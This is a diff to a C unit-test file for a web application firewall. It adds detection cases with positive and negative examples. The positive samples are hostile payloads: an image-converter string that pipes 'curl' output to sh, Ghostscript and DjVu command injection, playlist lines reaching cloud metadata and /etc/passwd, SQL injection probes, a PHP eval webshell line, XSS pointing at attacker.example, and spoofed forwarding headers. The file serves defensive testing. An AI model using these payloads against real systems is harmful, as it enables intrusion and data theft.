@@ -6,6 +6,7 @@
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
+#include <stdio.h>
 #include <string.h>
 
 #include <cmocka.h>
@@ -144,6 +145,33 @@ static const struct dcase cases[] = {
 	{ "scanner", 1, "Wapiti/3.0.4 (wapiti-scanner.github.io)" },
 	{ "scanner", 0, "python-requests/2.31.0" },
 	{ "scanner", 1, "Mozilla/5.0 (compatible; Goby)" },
+	{ "scanner", 1, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)" },
+	{ "converter", 1, "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://a/a.jpg\"|curl -s x/m.sh|sh\")'\npop graphic-context" },
+	{ "converter", 1, "%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops" },
+	{ "converter", 1, "AT&TFORMDJVMDIRM(metadata\n (Copyright \"\\n\" . qx{id} . \\n\" b \") )" },
+	{ "converter", 0, "push graphic-context\nviewbox 0 0 64 48\nfill 'url(#grad1)'\npop graphic-context" },
+	{ "playlist", 1, "#EXTM3U\n#EXTINF:10.0,\nhttp://169.254.169.254/latest/meta-data/\n" },
+	{ "playlist", 1, "#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd|subfile,,start,0,end,0,,:/x\n" },
+	{ "playlist", 0, "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n/hls/seg-001.ts\nhttps://cdn.example.com/seg-002.ts\n" },
+	{ "lfi", 1, "../" },
+	{ "lfi", 1, "../../ierp/bin/prop.xml" },
+	{ "lfi", 1, "{\"url\":\"/general/../../mysql5/my.ini\"}" },
+	{ "lfi", 0, "../images/logo.png" },
+	{ "lfi", 0, "see ../../docs for the layout" },
+	{ "sqli", 1, "12,'.)\"(,..(" },
+	{ "sqli", 0, "He said \"hi\" (twice), then left." },
+	{ "sqli", 1, "(SELECT MD5(1))" },
+	{ "sqli", 1, "select if((substr(user(),1,1)='r'),1,power(9999,99))" },
+	{ "sqli", 0, "SELECT id FROM a WHERE id NOT IN (SELECT id FROM b)\nUNION\nSELECT id FROM b ORDER BY id;" },
+	{ "sqli", 0, "WITH t AS (SELECT 1 AS x) SELECT x FROM t WHERE 1=1" },
+	{ "webshell", 1, "@eval(base64_decode($_POST[z0]));" },
+	{ "webshell", 0, "Never call eval() on user input such as the POST body." },
+	{ "xss", 1, "<form id=config><input name=apiUrl value=\"//attacker.example/c\"></form>" },
+	{ "xss", 1, "<iframe src=\"https://a.example/login.html\" style=\"position:fixed;inset:0;width:100%;height:100%;border:0\"></iframe>" },
+	{ "xss", 0, "<iframe src=\"https://player.bilibili.com/player.html?bvid=BV1\" width=\"100%\" height=\"480\"></iframe>" },
+	{ "ssrf", 1, "rmi://203.0.113.7:1099/Object" },
+	{ "rfi", 0, "https://item.example.cn/4850337134.html \xE8\xBF\x98\xE6\x9C\x89\xE8\xB4\xA7\xE5\x90\x97?" },
+	{ "cmdi", 0, "grep -P '^(\\d{3}-|\\(\\d{3}\\) )\\d{3}-\\d{4}$' file.txt" },
 	{ "scanner", 0, "Mozilla/5.0 (Linux; Android 14) Gobyte/1.0" },
 	{ "cmdi", 1, "x;$'\\x69\\x64'" },
 	{ "cmdi", 1, "a; $'\\x77\\x68\\x6f\\x61\\x6d\\x69'" },
@@ -247,6 +275,10 @@ test_protocol(void **state)
 		H("Content-Type", "application/x-www-form-urlencoded; charset=GBK") };
 	const struct waf_header imds[] = { H("Host", "169.254.169.254") };
 	const struct waf_header imds_port[] = { H("Host", "100.100.100.200:80") };
+	const struct waf_header spoof[] = { H("Host", "a"), H("X-Forwarded-For", "127.0.0.1"),
+		H("X-Real-IP", "127.0.0.1") };
+	const struct waf_header spoof_rare[] = { H("Host", "a"), H("X-Originating-IP", "127.0.0.1") };
+	const struct waf_header xff_private[] = { H("Host", "a"), H("X-Forwarded-For", "10.1.2.3, 127.0.0.1") };
 	const struct waf_header mp[] = { H("Host", "a"),
 		H("Content-Type", "multipart/form-data; boundary=a; boundary=b") };
 
@@ -288,6 +320,19 @@ test_protocol(void **state)
 	assert_false(proto("POST", "/c", NULL, gbk, 2, "a=1", 0));
 	assert_true(proto("GET", "/latest/meta-data/", NULL, imds, 1, NULL, 0));
 	assert_true(proto("GET", "/", NULL, imds_port, 1, NULL, 0));
+	assert_true(proto("GET", "/admin/", NULL, spoof, 3, NULL, 0));
+	assert_true(proto("GET", "/admin/", NULL, spoof_rare, 2, NULL, 0));
+	assert_false(proto("GET", "/", NULL, xff_private, 2, NULL, 0));
+	{
+		static char q[4000];
+		size_t o = 0;
+
+		for (int i = 0; i < 520; i++)
+			o += (size_t)snprintf(q + o, sizeof(q) - o, "%sp%d=1", i ? "&" : "", i);
+		assert_true(proto("GET", "/search", q, ok, 2, NULL, 0));
+		q[600] = '\0';
+		assert_false(proto("GET", "/search", q, ok, 2, NULL, 0));
+	}
 }
 
 int
